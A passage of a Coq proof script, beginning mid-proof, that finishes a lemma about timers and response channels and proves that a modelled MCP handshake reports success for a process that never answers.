  destruct (RegisterRequest initID s) as [n s1]. destruct Hr as (Hs1 & Hp & Hc).
  cbv zeta. intros Hpre Ht.
  assert (Hok1 : ok s1) by (rewrite Hs1; apply request_step_ok, request_run_ok, requests_empty_ok).
  destruct (await_spares (timers_of initID s1) initID n _ pre ((t, OFire n) :: post) s1
    Hok1 Hp Hc Htimer (reflexivity _) Hpre) as (s2 & -> & Hok2 & Hp2 & Hc2 & Ht2).
  cbn [await]. unfold receive at 1. rewrite Hc2. cbn [RespChan.buffered RespChan.closed].
  rewrite (proj2 (Z.leb_gt _ t)) by done. cbn [request_step].
  assert (Hclosed : channels (fire n s2) !! n = Some (RespChan.mk None true)).
  { unfold fire. rewrite Ht2, Hp2. cbn. by rewrite lookup_alter_eq, Hc2. }
  destruct post as [|[t' o] post]; cbn [await]; unfold receive; by rewrite Hclosed.
Qed.

(** The timer of a registration made one millisecond before the wait fires in
    time. *)
Lemma silent_process_passes_handshake_witness :
  (performMCPHandshake (fun _ => None) "init-1" (Millisecond) [(30 * Second, OFire 0)] empty EmptyString).1.1 =
    true.
Proof.
  pose proof (silent_process_passes_handshake (fun _ => None) [] "init-1" Millisecond []
    (30 * Second) [] EmptyString) as H.
  cbv zeta in H. specialize (H (Forall_nil_2 _) eq_refl).
  destruct (performMCPHandshake _ _ _ _ _ _) as [[answered s'] i]. apply H.
Defined.
